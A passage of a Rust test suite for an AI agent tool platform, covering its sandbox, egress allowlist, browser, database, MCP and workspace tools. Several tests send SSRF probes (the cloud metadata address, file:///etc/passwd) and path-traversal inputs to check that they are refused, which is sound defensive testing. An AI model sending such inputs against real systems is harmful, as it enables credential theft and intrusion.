        let local_versions = fixture.store().listing_versions(local.id).await.unwrap();
        let installation = fixture.store().installation_id().await.unwrap();
        assert_eq!(local_versions[0].source_installation.as_ref(), Some(&installation));
        // Nothing local is published onto an imported listing either.
        fixture
            .call(
                "create_tool",
                json!({"name": "add_imported", "description": "Adds.", "parameter_schema": {"type": "object"}, "code": "return 1;"}),
            )
            .await
            .unwrap();
        let error = fixture.call("publish_tool", json!({"name": "add_imported"})).await.unwrap_err();
        assert!(error.to_string().contains("imported from a file"), "{error}");

        // With the explicit flag the person asked for it: a new version of the local listing.
        file["bundle"]["name"] = json!("add");
        file["hash"] = json!(market::bundle_hash(&file["bundle"]));
        let (_, _, version, _) = market::import(services, &file, true).await.unwrap();
        assert_eq!(version, 2);
    }

    #[tokio::test]
    async fn bundle_descriptions_and_listing_pages_are_bounded() {
        let fixture = Fixture::new().await;
        publish_add(&fixture).await;
        let services = fixture.registry.services();
        let mut file = serde_json::to_value(market::export(services, "tool", "add", None).await.unwrap()).unwrap();
        file["bundle"]["name"] = json!("big");
        file["bundle"]["description"] = json!("d".repeat(1_900_000));
        file["hash"] = json!(market::bundle_hash(&file["bundle"]));
        let error = market::import(services, &file, false).await.unwrap_err();
        assert!(error.to_string().contains("is 1900000 bytes; the limit is 4096 bytes"), "{error}");
        for index in 0..3 {
            file["bundle"]["name"] = json!(format!("copy_{index}"));
            file["bundle"]["description"] = json!("A copy.");
            file["hash"] = json!(market::bundle_hash(&file["bundle"]));
            market::import(services, &file, false).await.unwrap();
        }
        let page = fixture.store().list_listings(Some("copy"), 2, 1).await.unwrap();
        let names: Vec<&str> = page.listings.iter().map(|listing| listing.name.as_str()).collect();
        assert_eq!((names, page.total), (vec!["copy_1", "copy_2"], 3));
    }

    #[tokio::test]
    async fn components_publish_and_install_disabled_and_the_hash_is_canonical() {
        let fixture = Fixture::new().await;
        fixture
            .call(
                "create_ui_component",
                json!({"name": "Card", "description": "A card", "code": "export default () => <div/>;"}),
            )
            .await
            .unwrap();
        let published = fixture.call("publish_tool", json!({"name": "Card", "kind": "component"})).await.unwrap();
        assert_eq!(published["kind"], "component");
        let other = AgentId::parse("other").unwrap();
        fixture.store().create_agent(&other, None).await.unwrap();
        market::install(fixture.registry.services(), &other, "component", "Card", None, &OnConflict::Refuse)
            .await
            .unwrap();
        let installed = fixture.store().ui_component(&other, "Card").await.unwrap().unwrap();
        assert!(!installed.enabled);
        assert_eq!(
            market::bundle_hash(&json!({"b": 1, "a": [{"d": 2, "c": 3}]})),
            market::bundle_hash(&json!({"a": [{"c": 3, "d": 2}], "b": 1}))
        );
        assert_eq!(market::canonical_json(&json!({"b": 1, "a": 2})), r#"{"a":2,"b":1}"#);
    }
}

mod code_and_web {
    use super::*;

    /// A local server: `/hello` answers text, `/json` answers JSON.
    async fn local_server() -> std::net::SocketAddr {
        let app = axum::Router::new()
            .route("/hello", axum::routing::get(|| async { "hello from the test server" }))
            .route("/json", axum::routing::get(|| async { axum::Json(json!({"answer": 42})) }));
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let address = listener.local_addr().unwrap();
        tokio::spawn(async move { axum::serve(listener, app).await.ok() });
        address
    }

    fn allowing(address: std::net::SocketAddr) -> EgressConfig {
        EgressConfig { allow: vec![format!("127.0.0.1:{}", address.port())], ..EgressConfig::default() }
    }

    #[tokio::test]
    async fn run_sandbox_code_returns_result_and_logs_or_error_and_kind() {
        let fixture = Fixture::new().await;
        let ok =
            fixture.call("run_sandbox_code", json!({"code": "console.log('adding'); return 1 + 2;"})).await.unwrap();
        assert_eq!(ok, json!({"result": 3, "logs": ["adding"]}));
        // One expression returns its value; statements run as a body, as before.
        for (code, result) in [
            ("17 * 23", json!(391)),
            ("  [1, 2].map(n => n * 2);\n", json!([2, 4])),
            ("// the product\n17 * 23", json!(391)),
            ("const x = 2; x * 3", json!(null)),
            ("resolve(5)", json!(5)),
        ] {
            let ran = fixture.call("run_sandbox_code", json!({"code": code})).await.unwrap();
            assert_eq!(ran["result"], result, "{code}");
        }
        let error = fixture.call("run_sandbox_code", json!({"code": "throw new Error('boom')"})).await.unwrap_err();
        assert_eq!(error.category().as_str(), "runtime");
        assert_eq!(error.to_model_output()["error"].as_str().map(|text| text.contains("boom")), Some(true));
        let error =
            fixture.call("run_sandbox_code", json!({"code": "while (true) {}", "timeout_ms": 200})).await.unwrap_err();
        assert_eq!(error.category().as_str(), "timeout");
        let error = fixture.call("run_sandbox_code", json!({"code": "return (;"})).await.unwrap_err();
        assert_eq!(error.category().as_str(), "syntax");
        // A model may not ask for any deadline it likes: above [sandbox] max_deadline_ms it is refused.
        let error = fixture
            .call("run_sandbox_code", json!({"code": "return 1", "timeout_ms": 999_999_999_999u64}))
            .await
            .unwrap_err();
        assert_eq!(error.category().as_str(), "limit");
        assert!(error.to_string().contains("above the limit of 60000 ms"), "{error}");
    }

    #[tokio::test]
    async fn agent_tools_run_with_validated_args_and_the_agents_state() {
        let fixture = Fixture::new().await;
        let create = json!({
            "name": "counter",
            "description": "Counts calls and adds a step.",
            "parameter_schema": {"type": "object", "properties": {"step": {"type": "integer"}}, "required": ["step"]},
            "code": "const n = (await state.get('n')) ?? 0; await state.set('n', n + args.step); return n + args.step;",
        });
        fixture.call("create_tool", create).await.unwrap();
        assert_eq!(fixture.call("counter", json!({"step": 2})).await.unwrap(), json!(2));
        assert_eq!(fixture.call("counter", json!({"step": 3})).await.unwrap(), json!(5));
        assert_eq!(fixture.call("get_state", json!({"key": "n"})).await.unwrap(), json!({"value": 5}));
        let error = fixture.call("counter", json!({"step": "x"})).await.unwrap_err();
        assert!(error.to_string().contains("/step"), "{error}");
        let tools = fixture.registry.list(&AgentId::default_agent()).await.unwrap();
        assert!(tools.iter().any(|tool| tool.name == "counter" && tool.kind == wright_core::ToolKind::Agent));
        fixture.call("disable_tool", json!({"name": "counter"})).await.unwrap();
        assert!(fixture.call("counter", json!({"step": 1})).await.unwrap_err().to_string().contains("disabled"));
        let executions = fixture
            .store()
            .list_executions(
                &AgentId::default_agent(),
                &ExecutionFilter { tool_name: Some("counter".into()), ..Default::default() },
            )
            .await
            .unwrap();
        assert_eq!(executions.len(), 3);
        assert!(executions.iter().all(|execution| execution.tool_kind == "agent"));
    }

    #[tokio::test]
    async fn a_tool_runs_under_its_own_deadline() {
        let fixture = Fixture::new().await;
        let create = json!({"name": "spin", "description": "Spins.", "parameter_schema": {"type": "object"},
                            "code": "while (true) {}", "timeout_ms": 150});
        fixture.call("create_tool", create).await.unwrap();
        assert_eq!(fixture.call("read_tool", json!({"name": "spin"})).await.unwrap()["timeout_ms"], 150);
        let started = std::time::Instant::now();
        let error = fixture.call("spin", json!({})).await.unwrap_err();
        assert_eq!(error.category().as_str(), "timeout");
        assert!(started.elapsed() < std::time::Duration::from_secs(2), "the tool's 150 ms, not the default 5 s");
        fixture.call("update_tool", json!({"name": "spin", "timeout_ms": 300})).await.unwrap();
        assert_eq!(fixture.call("read_tool", json!({"name": "spin"})).await.unwrap()["timeout_ms"], 300);
    }

    #[tokio::test]
    async fn code_that_does_not_compile_is_refused_with_its_position() {
        let fixture = Fixture::new().await;
        let error = fixture
            .call("create_tool", json!({"name": "broken", "description": "Broken.", "parameter_schema": {"type": "object"}, "code": "return {;"}))
            .await
            .unwrap_err();
        assert!(error.to_string().contains("does not compile") && error.to_string().contains("line 1"), "{error}");
    }

    /// Both real small models wrote a tool's code as a function declaration: it compiled, ran and
    /// returned null. The call it meant is added, and said.
    #[tokio::test]
    async fn code_that_only_declares_a_function_gets_the_call_it_meant() {
        let fixture = Fixture::new().await;
        let schema = |property: &str| json!({"type": "object", "properties": {property: {"type": "string"}}});
        for (name, code, property, call, arguments, result) in [
            (
                "greet",
                "async function greet(args) { return `hi ${args.name}`; }",
                "name",
                "greet(args)",
                json!({"name": "Ada"}),
                json!("hi Ada"),
            ),
            (
                "shout",
                "function shout(text) {\n  return text.toUpperCase();\n}",
                "text",
                "shout(args.text)",
                json!({"text": "hello"}),
                json!("HELLO"),
            ),
            (
                "twice",
                "const twice = async (n) => { return n + n; }",
                "n",
                "twice(args.n)",
                json!({"n": "ab"}),
                json!("abab"),
            ),
        ] {
            let create =
                json!({"name": name, "description": "Made.", "parameter_schema": schema(property), "code": code});
            let made = fixture.call("create_tool", create).await.unwrap();
            let note = made["note"].as_str().unwrap();
            assert!(
                note.starts_with(&format!("the code only declared `{name}`; `return await {call};` was added")),
                "{note}"
            );
            let stored = fixture.call("read_tool", json!({"name": name})).await.unwrap();
            assert_eq!(stored["code"], format!("{code}\nreturn await {call};"));
            assert_eq!(fixture.call(name, arguments).await.unwrap(), result, "{name}");
        }
        // Declared and called, a helper the body uses, a plain body: stored as written.
        for code in [
            "async function hello(args) { return `hi ${args.name}`; }\nreturn await hello(args);",
            "function hi(n) { return 'hi ' + n; }\nreturn hi(args.name);",
            "return `hi ${args.name}`;",
            "const name = args.name;\nreturn { greeting: `hi ${name}` };",
        ] {
            let create =
                json!({"name": "plain", "description": "Made.", "parameter_schema": schema("name"), "code": code});
            assert_eq!(fixture.call("create_tool", create).await.unwrap().get("note"), None, "{code}");
            assert_eq!(fixture.call("read_tool", json!({"name": "plain"})).await.unwrap()["code"], code);
            fixture.call("delete_tool", json!({"name": "plain"})).await.unwrap();
        }
        // An update's code is completed against the stored schema.
        let updated =
            fixture.call("update_tool", json!({"name": "shout", "code": "function loud(text) { return text + '!'; }"}));
        assert!(updated.await.unwrap()["note"].as_str().unwrap().contains("`return await loud(args.text);`"));
        assert_eq!(fixture.call("shout", json!({"text": "hey"})).await.unwrap(), json!("hey!"));
    }

    #[tokio::test]
    async fn fetch_url_reaches_an_allowlisted_server_and_is_refused_a_private_one() {
        let address = local_server().await;
        let fixture = Fixture::with_egress(allowing(address)).await;
        let result = fixture
            .call("fetch_url", json!({"url": format!("http://127.0.0.1:{}/hello", address.port())}))
            .await
            .unwrap();
        assert_eq!((result["status"].clone(), result["ok"].clone()), (json!(200), json!(true)));
        assert_eq!(result["body"], "hello from the test server");
        assert_eq!(result["truncated"], false);
        for url in ["http://169.254.169.254/latest/meta-data/", "http://10.0.0.1/", "file:///etc/passwd"] {
            let error = fixture.call("fetch_url", json!({"url": url})).await.unwrap_err();
            assert!(matches!(error.category().as_str(), "denied" | "rejected"), "{url}: {error}");
        }
        let other_port = fixture
            .call("fetch_url", json!({"url": format!("http://127.0.0.1:{}/hello", address.port() + 1)}))
            .await
            .unwrap_err();
        assert_eq!(other_port.category().as_str(), "denied");
    }

    #[tokio::test]
    async fn sandbox_fetch_goes_through_the_same_guard() {
        let address = local_server().await;
        let fixture = Fixture::with_egress(allowing(address)).await;
        let code = format!(
            "const response = await fetch('http://127.0.0.1:{}/json'); const body = await response.json(); \
             return {{status: response.status, ok: response.ok, type: response.headers.get('content-type'), answer: body.answer}};",
            address.port()
        );
        let result = fixture.call("run_sandbox_code", json!({"code": code})).await.unwrap();
        assert_eq!(result["result"]["answer"], 42);
        assert_eq!(result["result"]["type"], "application/json");
        // What the code fetched is outside content: the result names the hosts, for the rules.
        assert_eq!(result["fetched"], json!(["127.0.0.1"]), "{result}");
        let computed = fixture.call("run_sandbox_code", json!({"code": "17 * 23"})).await.unwrap();
        assert!(computed.get("fetched").is_none(), "{computed}");
        let denied = fixture
            .call("run_sandbox_code", json!({"code": "try { await fetch('http://169.254.169.254/'); return 'reached'; } catch (error) { return String(error.message); }"}))
            .await
            .unwrap();
        assert!(denied["result"].as_str().unwrap().contains("denied"), "{denied}");
        assert_eq!(denied["fetched"], json!(["169.254.169.254"]), "a refused fetch was still meant to leave");
    }

    #[tokio::test]
    async fn the_browser_reads_an_allowlisted_page_and_is_refused_a_private_one() {
        let address = local_server().await;
        let fixture = Fixture::with_egress(allowing(address)).await;
        let page = fixture
            .call("browser_navigate", json!({"url": format!("http://127.0.0.1:{}/hello", address.port())}))
            .await
            .unwrap();
        assert_eq!(page["status"], 200, "{page}");
        let text = fixture.call("browser_extract_text", json!({})).await.unwrap();
        assert!(text["text"].as_str().unwrap().contains("hello from the test server"), "{text}");
        let error = fixture
            .call("browser_navigate", json!({"url": "http://169.254.169.254/latest/meta-data/"}))
            .await
            .unwrap_err();
        assert_eq!(error.category().as_str(), "denied", "{error}");
        assert_eq!(fixture.call("browser_close", json!({})).await.unwrap(), json!({"ok": true}));
    }

    #[tokio::test]
    async fn web_search_without_a_backend_uses_duckduckgo_through_the_egress() {
        // A one-hit page in DuckDuckGo's HTML results markup (egress's tests cover the parser
        // on fuller saved pages).
        let page = r#"<html><body><div id="links" class="results">
            <div class="result results_links results_links_deep web-result">
              <h2 class="result__title"><a class="result__a"
                href="//duckduckgo.com/l/?uddg=https%3A%2F%2Fwww.rust-lang.org%2F&amp;rut=x"><b>Rust</b> lang</a></h2>
              <a class="result__snippet" href="//duckduckgo.com/l/?uddg=x">Reliable software.</a>
            </div></div></body></html>"#;
        let app =
            axum::Router::new().route("/html/", axum::routing::get(move || async move { axum::response::Html(page) }));
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let address = listener.local_addr().unwrap();
        tokio::spawn(async move { axum::serve(listener, app).await.ok() });
        let search = wright_egress::SearchConfig {
            duckduckgo_url: format!("http://{address}/html/"),
            ..wright_egress::SearchConfig::default()
        };

        // The stand-in is on loopback: refused until the allowlist names it, as DuckDuckGo
        // goes through the egress policy.
        let fixture = Fixture::with_egress(EgressConfig { search: search.clone(), ..EgressConfig::default() }).await;
        let error = fixture.call("web_search", json!({"query": "rust"})).await.unwrap_err();
        assert_eq!(error.category().as_str(), "denied", "{error}");

        let fixture = Fixture::with_egress(EgressConfig { search, ..allowing(address) }).await;
        let results = fixture.call("web_search", json!({"query": "rust"})).await.unwrap();
        assert_eq!(
            results,
            json!({"results": [{"title": "Rust lang", "url": "https://www.rust-lang.org/", "snippet": "Reliable software."}]})
        );
    }
}

mod database {
    use super::*;

    #[tokio::test]
    async fn db_sql_and_db_schema_have_the_seed_shapes_and_the_guards_speak_to_the_model() {
        let fixture = Fixture::new().await;
        let created = fixture
            .call(
                "db_sql",
                json!({"sql": "CREATE TABLE expenses (id INTEGER PRIMARY KEY, item TEXT NOT NULL, cents INTEGER)"}),
            )
            .await
            .unwrap();
        assert_eq!(created["changes"], 0);
        let inserted = fixture
            .call("db_sql", json!({"sql": "INSERT INTO expenses (item, cents) VALUES (?, ?)", "params": ["tea", 350]}))
            .await
            .unwrap();
        assert_eq!(inserted, json!({"changes": 1, "last_insert_rowid": 1}));
        let rows = fixture.call("db_sql", json!({"sql": "SELECT item, cents FROM expenses"})).await.unwrap();
        assert_eq!(
            rows,
            json!({"columns": ["item", "cents"], "rows": [["tea", 350]], "row_count": 1, "truncated": false})
        );
        let schema = fixture.call("db_schema", json!({})).await.unwrap();
        assert_eq!(schema["tables"][0]["name"], "expenses");
        assert_eq!(schema["tables"][0]["row_count"], 1);
        let error = fixture.call("db_sql", json!({"sql": "ATTACH DATABASE 'x.db' AS x"})).await.unwrap_err();
        assert_eq!(error.category().as_str(), "denied", "{error}");
        let error = fixture.call("db_sql", json!({"sql": "SELECT 1; SELECT 2"})).await.unwrap_err();
        assert!(error.to_string().contains("only one SQL statement"), "{error}");
        let error = fixture.call("db_sql", json!({"sql": "SELECT * FROM agents"})).await.unwrap_err();
        assert!(error.to_string().contains("no such table"), "the app database is not reachable: {error}");
    }

    /// The real 1.5B answered "create a table plants and record a fern" with a note on a table
    /// that did not exist, and said it had made it.
    #[tokio::test]
    async fn a_note_on_a_table_that_does_not_exist_is_refused_and_says_how_to_make_it() {
        let fixture = Fixture::new().await;
        let note = json!({"table": "plants", "purpose": "one row per plant", "reason": "new table"});
        let error = fixture.call("describe_db_table", note.clone()).await.unwrap_err();
        assert_eq!(error.category().as_str(), "not_found", "{error}");
        assert!(error.to_string().starts_with("there is no table plants in your database (your tables: none yet)"));
        assert!(error.to_string().contains("Create it first with db_sql (CREATE TABLE plants (…))"), "{error}");
        fixture.call("db_sql", json!({"sql": "CREATE TABLE Plants (name TEXT)"})).await.unwrap();
        assert_eq!(fixture.call("describe_db_table", note).await.unwrap()["version"], 2);
        // Removing the note of a table that is gone still works.
        let removed = fixture.call("describe_db_table", json!({"table": "gone", "purpose": "", "reason": "x"})).await;
        assert_eq!(removed.unwrap()["removed"], false);
    }
}

#[test]
fn closest_names_rank_small_typos_and_shared_words_first() {
    let names = ["get_state", "set_state", "edit_learned_notes", "read_learned_notes", "fetch_url", "web_search"];
    assert_eq!(wright_core::closest_names("get_stat", names.into_iter())[0], "get_state");
    let for_notes = wright_core::closest_names("save_notes", names.into_iter());
    assert!(for_notes[..2].iter().all(|name| name.ends_with("learned_notes")), "{for_notes:?}");
    assert_eq!(wright_core::closest_names("x", names.into_iter()).len(), wright_core::CLOSEST_NAMES);
}

mod mcp {
    use std::collections::BTreeMap;
    use std::path::PathBuf;
    use std::time::Duration;

    use wright_mcp::{McpClients, McpConfig, McpServerConfig};

    use super::*;

    /// The Python interpreter with `mcp` (see wright-mcp's tests: `$WRIGHT_TEST_MCP_PYTHON`,
    /// made by scripts/test.sh) and the SDK server of wright-mcp's tests.
    fn python_and_script() -> (String, String) {
        let manifest = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
        let python = std::env::var("WRIGHT_TEST_MCP_PYTHON").unwrap_or_else(|_| {
            let venv = manifest.join("../../target/mcp-test-venv/bin/python");
            assert!(venv.exists(), "no Python with `mcp`: run scripts/test.sh or set WRIGHT_TEST_MCP_PYTHON");
            venv.display().to_string()
        });
        (python, manifest.join("../wright-mcp/tests/it/server.py").display().to_string())
    }

    /// The Python SDK server of wright-mcp's tests, over stdio.
    fn clients() -> McpClients {
        let (python, script) = python_and_script();
        let server = McpServerConfig::Stdio {
            command: python,
            args: vec![script, "stdio".to_owned()],
            env: BTreeMap::new(),
            cwd: None,
        };
        let egress = Egress::new(EgressConfig::default()).unwrap();
        McpClients::start(
            McpConfig { servers: BTreeMap::from([("py".to_owned(), server)]), ..McpConfig::default() },
            wright_tools::egress_gate(&egress),
            wright_core::Redactor::default(),
        )
        .unwrap()
    }

    /// The SDK server over streamable HTTP on 127.0.0.1:`port`, also answering `Host: hosts`;
    /// killed on drop.
    fn http_server(port: u16, hosts: &[&str]) -> tokio::process::Child {
        let (python, script) = python_and_script();
        tokio::process::Command::new(python)
            .args([script, "http".to_owned(), port.to_string()])
            .args(hosts)
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .kill_on_drop(true)
            .spawn()
            .unwrap()
    }

    fn free_port() -> u16 {
        std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port()
    }

    /// Clients of one HTTP server at `url`, through the egress policy of `egress`.
    fn http_clients(url: &str, egress: &Egress) -> McpClients {
        let server = McpServerConfig::Http { url: url.to_owned(), headers: BTreeMap::new() };
        let config = McpConfig {
            servers: BTreeMap::from([("web".to_owned(), server)]),
            retry_initial_ms: 200,
            retry_max_ms: 1_000,
            ..McpConfig::default()
        };
        McpClients::start(config, wright_tools::egress_gate(egress), wright_core::Redactor::default()).unwrap()
    }

    async fn until(clients: &McpClients, what: &str, check: impl Fn(&McpClients) -> bool) {
        let deadline = tokio::time::Instant::now() + Duration::from_secs(30);
        while !check(clients) {
            assert!(tokio::time::Instant::now() < deadline, "timed out waiting for {what}: {:?}", clients.status());
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    }

    fn down_error(clients: &McpClients) -> Option<String> {
        match &clients.status()[0].state {
            wright_mcp::ServerState::Down { error, .. } => Some(error.clone()),
            _ => None,
        }
    }

    #[tokio::test]
    async fn an_http_mcp_server_on_loopback_is_refused_by_the_egress_policy_unless_the_operator_allowed_it() {
        let port = free_port();
        let _server = http_server(port, &[]);
        let url = format!("http://127.0.0.1:{port}/mcp");

        let refused = http_clients(&url, &Egress::new(EgressConfig::default()).unwrap());
        until(&refused, "the refusal", |clients| down_error(clients).is_some()).await;
        let error = down_error(&refused).unwrap();
        assert!(error.starts_with("request denied by egress policy:"), "{error}");
        assert!(error.contains("127.0.0.1 is loopback"), "{error}");
        assert!(error.contains(&format!("add `127.0.0.1:{port}` to [egress] allow")), "{error}");
        assert!(refused.tools().is_empty());

        // Allowed for another port only: still refused.
        let other_port = EgressConfig { allow: vec![format!("127.0.0.1:{}", port + 1)], ..EgressConfig::default() };
        let refused = http_clients(&url, &Egress::new(other_port).unwrap());
        until(&refused, "the refusal", |clients| down_error(clients).is_some()).await;
        assert!(down_error(&refused).unwrap().contains("denied by egress policy"));

        let allowed = EgressConfig { allow: vec![format!("127.0.0.1:{port}")], ..EgressConfig::default() };
        let clients = http_clients(&url, &Egress::new(allowed).unwrap());
        until(&clients, "the allowed server", |clients| clients.tool("mcp__web__echo").is_some()).await;
        let fixture = Fixture::new().await.with_mcp(clients);
        let result = fixture.call("mcp__web__echo", json!({"text": "through the egress"})).await.unwrap();
        assert_eq!(result["content"][0]["text"], "through the egress", "{result}");
    }

    #[tokio::test]
    async fn a_named_http_mcp_server_is_looked_up_once_per_connection_and_reached_at_that_answer() {
        let port = free_port();
        let _server = http_server(port, &["mcp.wright-test"]);
        // Our resolver's answers; the system's DNS knows neither name.
        let resolver = Arc::new(
            wright_egress::StaticResolver::new()
                .with("mcp.wright-test", &[std::net::Ipv4Addr::LOCALHOST.into()])
                .with("internal.wright-test", &[std::net::Ipv4Addr::new(10, 0, 0, 5).into()]),
        );
        let allow = EgressConfig { allow: vec![format!("mcp.wright-test:{port}")], ..EgressConfig::default() };
        let egress = Egress::with_resolver(allow, resolver.clone()).unwrap();

        let internal = http_clients(&format!("http://internal.wright-test:{port}/mcp"), &egress);
        until(&internal, "the refusal", |clients| down_error(clients).is_some()).await;
        let error = down_error(&internal).unwrap();
        assert!(error.contains("10.0.0.5 is private"), "{error}");
        drop(internal);

        let clients = http_clients(&format!("http://mcp.wright-test:{port}/mcp"), &egress);
        until(&clients, "the named server", |clients| clients.tool("mcp__web__echo").is_some()).await;
        // Looked up once per connection attempt, not per request: the calls below go to the
        // answer the connection was pinned to.
        let lookups = resolver.lookups();
        let fixture = Fixture::new().await.with_mcp(clients);
        for text in ["one", "two"] {
            let result = fixture.call("mcp__web__echo", json!({"text": text})).await.unwrap();
            assert_eq!(result["content"][0]["text"], text);
        }
        assert_eq!(resolver.lookups(), lookups);
    }

    #[tokio::test]
    async fn mcp_tools_are_listed_validated_called_and_recorded() {
        let clients = clients();
        let deadline = tokio::time::Instant::now() + Duration::from_secs(30);
        while clients.tool("mcp__py__echo").is_none() {
            assert!(tokio::time::Instant::now() < deadline, "the MCP server did not come up: {:?}", clients.status());
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        let fixture = Fixture::new().await.with_mcp(clients);
        let agent = AgentId::default_agent();

        let listed = fixture.registry.list(&agent).await.unwrap();
        let echo = listed.iter().find(|tool| tool.name == "mcp__py__echo").expect("listed");
        assert_eq!(echo.kind, wright_core::ToolKind::Mcp);
        let specs = fixture.registry.specs(&agent).await.unwrap();
        let effects = |name: &str| specs.iter().find(|spec| spec.name == name).expect(name).effects;
        // Every MCP result is outside content; only a tool the server marked read-only
        // (`readOnlyHint`) is not counted as sending out.
        assert!(effects("mcp__py__echo").reads_outside && !effects("mcp__py__echo").sends_out);
        assert!(effects("mcp__py__env").reads_outside && effects("mcp__py__env").sends_out);

        let result = fixture.call("mcp__py__echo", json!({"text": "via the registry"})).await.unwrap();
        assert_eq!(result["content"][0]["text"], "via the registry", "{result}");
        // The server's schema is enforced before the server sees the call.
        let error = fixture.call("mcp__py__echo", json!({"text": 42})).await.unwrap_err();
        assert_eq!(error.category().as_str(), "invalid_arguments", "{error}");

        let executions = fixture.store().list_executions(&agent, &ExecutionFilter::default()).await.unwrap();
        let mcp_calls: Vec<_> = executions.iter().filter(|execution| execution.tool_name == "mcp__py__echo").collect();
        assert_eq!(mcp_calls.len(), 2, "{executions:?}");
        assert!(mcp_calls.iter().all(|execution| execution.tool_kind == "mcp" && execution.tool_version.is_none()));
        assert!(mcp_calls.iter().any(|execution| execution.error_category.as_deref() == Some("invalid_arguments")));
    }
}

/// The workspace tools through the registry: seed 004's shapes, the file engines, the confined
/// shell, and the categories a refused path or command is recorded with.
#[tokio::test]
async fn workspace_tools_read_write_search_and_run_confined() {
    let fixture = Fixture::new().await;
    let written =
        fixture.call("file_write", json!({"path": "src/main.rs", "content": "fn main() {}\n// TODO\n"})).await.unwrap();
    assert_eq!(written["output"], "Wrote 21 bytes to /workspace/src/main.rs");
    let read = fixture.call("file_read", json!({"path": "/workspace/src/main.rs"})).await.unwrap();
    assert_eq!(read["output"], "     1\tfn main() {}\n     2\t// TODO\n");
    let edited = fixture
        .call("file_edit", json!({"path": "src/main.rs", "old_string": "TODO", "new_string": "DONE"}))
        .await
        .unwrap();
    assert_eq!(edited["replacements"], 1);
    let glob = fixture.call("glob", json!({"pattern": "**/*.rs"})).await.unwrap();
    assert_eq!((glob["output"].as_str(), glob["count"].as_u64()), (Some("/workspace/src/main.rs"), Some(1)));
    let grep = fixture.call("grep", json!({"pattern": "DONE", "output_mode": "files_with_matches"})).await.unwrap();
    assert_eq!(grep["output"], "/workspace/src/main.rs\n");
    let bash = fixture.call("bash", json!({"command": "cat src/main.rs | wc -l; exit 2"})).await.unwrap();
    assert_eq!((bash["stdout"].as_str(), bash["exit_code"].as_i64()), (Some("2\n"), Some(2)), "{bash}");
    assert!(bash["duration_ms"].is_u64() && bash["truncated"] == false);

    let escape = fixture.call("file_read", json!({"path": "../../../../etc/passwd"})).await.unwrap_err();
    assert_eq!(escape.category().as_str(), "denied", "{escape}");
    let outside = fixture.call("file_write", json!({"path": "/etc/wright-test", "content": "x"})).await.unwrap_err();
    assert_eq!(outside.category().as_str(), "denied", "{outside}");
    let ambiguous = fixture
        .call("file_edit", json!({"path": "src/main.rs", "old_string": "", "new_string": "x"}))
        .await
        .unwrap_err();
    assert_eq!(ambiguous.category().as_str(), "rejected");
    let too_long = fixture.call("bash", json!({"command": "true", "timeout_ms": 10_000_000})).await.unwrap_err();
    assert_eq!(too_long.category().as_str(), "limit");
}

/// "Tomorrow at 9" means the person's 9: `schedule` reads `at` in the `[sessions]` zone when
/// the call names none. An empty `cron` beside it (as a model writes it) is no `cron`.
#[tokio::test]
async fn schedule_reads_a_local_time_in_the_persons_zone_by_default() {
    let fixture = Fixture::in_zone("Europe/Oslo").await;
    let created = fixture
        .call(
            "schedule",
            json!({"action": "create", "name": "dentist", "prompt": "Remind me to call the dentist.", "at": "2027-01-15T09:00", "cron": ""}),
        )
        .await
        .unwrap();
    assert_eq!(created["schedule"]["time_zone"], "Europe/Oslo", "{created}");
    // 09:00 in Oslo in winter is 08:00 UTC.
    assert!(created["schedule"]["next_run_at"].as_str().unwrap().starts_with("2027-01-15T08:00"), "{created}");
    // Both, or neither, is refused saying which to send.
    let both =
        json!({"action": "create", "name": "bed", "prompt": "Bed.", "at": "2027-01-15T22:00", "cron": "0 22 * * *"});
    let error = fixture.call("schedule", both).await.unwrap_err().to_string();
    assert!(
        error.ends_with(
            "create takes one of `cron` or `at`, and both were sent: send `cron` \"0 22 * * *\" alone to repeat it, or \
             `at` \"2027-01-15T22:00\" alone for once"
        ),
        "{error}"
    );
    let neither = json!({"action": "create", "name": "bed", "prompt": "Bed.", "cron": " "});
    let error = fixture.call("schedule", neither).await.unwrap_err().to_string();
    assert!(error.ends_with("create needs `cron` (repeating) or `at` (once)"), "{error}");
}

/// The loop's tests (wright-agent, which does not depend on this crate) run against the real
/// built-in specs, read from a snapshot; this keeps the snapshot current. Bless a change with
/// `UPDATE_SNAPSHOTS=1`.
#[test]
fn the_loop_tests_snapshot_of_the_builtin_specs_is_current() {
    let path =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../wright-agent/src/engine/testdata/builtin_specs.json");
    let current = serde_json::to_string_pretty(&wright_tools::builtin_specs()).unwrap() + "\n";
    if std::env::var_os("UPDATE_SNAPSHOTS").is_some() {
        std::fs::write(&path, &current).unwrap();
    }
    let stored = std::fs::read_to_string(&path).unwrap_or_default();
    assert!(stored == current, "{} is stale: run this test with UPDATE_SNAPSHOTS=1", path.display());
}

/// Issue 29: a refused call of an MCP server's tool is recorded as an MCP tool, not as one
/// of the agent's own.
#[tokio::test]
async fn a_refused_call_is_recorded_with_its_tools_own_kind() {
    let fixture = Fixture::new().await;
    for name in ["mcp__files__delete", "get_state", "my_own_tool"] {
        let invocation = Invocation {
            agent: AgentId::default_agent(),
            name: name.into(),
            args: json!({}),
            caller: Caller::Agent,
            conversation_id: None,
            tool_call_id: None,
            decided_by: Some(wright_core::DecidedBy::Policy),
        };
        fixture.registry.record_refusal(invocation, "the policy is deny".into()).await;
    }
    let executions =
        fixture.store().list_executions(&AgentId::default_agent(), &ExecutionFilter::default()).await.unwrap();
    let kinds: Vec<(&str, &str, Option<&str>)> = executions
        .iter()
        .rev()
        .map(|execution| {
            (execution.tool_name.as_str(), execution.tool_kind.as_str(), execution.error_category.as_deref())
        })
        .collect();
    assert_eq!(
        kinds,
        [
            ("mcp__files__delete", "mcp", Some("denied")),
            ("get_state", "builtin", Some("denied")),
            ("my_own_tool", "agent", Some("denied"))
        ]
    );
}

/// Issue 35: what a tool's calls do is a property of its spec, which the loop's rules read.
#[test]
fn tools_declare_whether_they_read_outside_and_what_their_calls_change() {
    let specs = wright_tools::builtin_specs();
    let effects = |name: &str| specs.iter().find(|spec| spec.name == name).unwrap().effects;
    for reader in ["fetch_url", "web_search", "browser_navigate", "browser_extract_text"] {
        assert!(effects(reader).reads_outside && !effects(reader).is_sensitive(), "{reader}");
    }
    for change in ["edit_system_prompt", "edit_learned_notes", "memory", "create_tool", "update_ui_component"] {
